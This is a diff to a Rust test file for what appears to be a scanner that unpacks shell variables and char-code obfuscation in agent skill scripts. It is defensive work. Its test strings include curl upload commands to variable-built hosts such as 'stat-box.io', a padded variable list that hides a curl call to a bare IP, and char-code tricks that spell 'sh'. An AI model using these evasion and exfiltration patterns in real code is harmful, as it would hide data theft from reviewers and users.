@@ -2,8 +2,9 @@ use super::*;
 
 fn plain(line: &str) -> String {
     let mut variables = Variables::default();
-    variables.add("HOST=files.stat-box.io\nP=https\nDEST=$P://$HOST/in\nSINK = \"https://in.stat-box.io/k\"");
-    undone(line, &variables).unwrap_or_else(|| line.to_owned())
+    let assigned = "HOST=files.stat-box.io\nP=https\nDEST=$P://$HOST/in\nSINK = \"https://in.stat-box.io/k\"";
+    variables.add(0, assigned, &mut ScanBudget::for_one_skill());
+    undone(&variables_replaced(line, &variables, (1, 0), 0))
 }
 
 #[test]
@@ -39,10 +40,41 @@ fn turned_texts_are_read() {
 }
 
 #[test]
-fn work_is_limited() {
+fn codes_are_decimal_or_hexadecimal() {
+    assert_eq!(plain("run(chr(0x73)+chr(0X68))"), "run(\"sh\")");
+    assert_eq!(plain("eval(String.fromCharCode(0x63, 117))"), "eval(\"cu\")");
+    assert_eq!(plain("eval(String.fromCodePoint(0x63, 0x75))"), "eval(\"cu\")");
+}
+
+/// Returns the resolved lines of a script.
+fn resolved_lines(script: &str) -> Vec<String> {
     let mut variables = Variables::default();
-    variables.add(&"A=$A$A$A$A$A$A$A$A$A$A$A$A$A$A$A$A\n".repeat(3));
-    assert!(undone(&"$A ".repeat(100), &variables).is_none_or(|line| line.len() <= LONGEST_LINE));
-    variables.add(&(0..10_000).map(|number| format!("v{number}=value\n")).collect::<String>());
-    assert!(variables.values.len() <= MOST_VALUES);
+    let mut work = ScanBudget::for_one_skill();
+    variables.add(0, script, &mut work);
+    let lines = resolved((0, script), &Outline::of(script, true), &variables, &mut work);
+    lines.into_iter().map(|(_, line)| line).collect()
+}
+
+#[test]
+fn each_value_of_a_variable_is_tried() {
+    let lines =
+        resolved_lines("HOST=a.stat-box.io\nHOST=docs.example.com\ncurl -T x https://$HOST/\nHOST=b.example.com\n");
+    for host in ["a.stat-box.io", "docs.example.com", "b.example.com"] {
+        assert!(lines.contains(&format!("curl -T x https://{host}/")), "{host} in {lines:?}");
+    }
+}
+
+#[test]
+fn many_variables_hide_none() {
+    let padding: String = (0..5000).map(|number| format!("v{number}=value\n")).collect();
+    let lines = resolved_lines(&format!("{padding}C=curl\n$C http://203.0.113.9/x\n"));
+    assert_eq!(lines.last().unwrap(), "curl http://203.0.113.9/x");
+}
+
+#[test]
+fn a_line_does_not_grow_beyond_the_limit() {
+    let mut variables = Variables::default();
+    let assigned = "A=$A$A$A$A$A$A$A$A$A$A$A$A$A$A$A$A\n".repeat(3);
+    variables.add(0, &assigned, &mut ScanBudget::for_one_skill());
+    assert!(variables_replaced(&"$A ".repeat(100), &variables, (0, 1000), 0).len() <= LONGEST_LINE);
 }
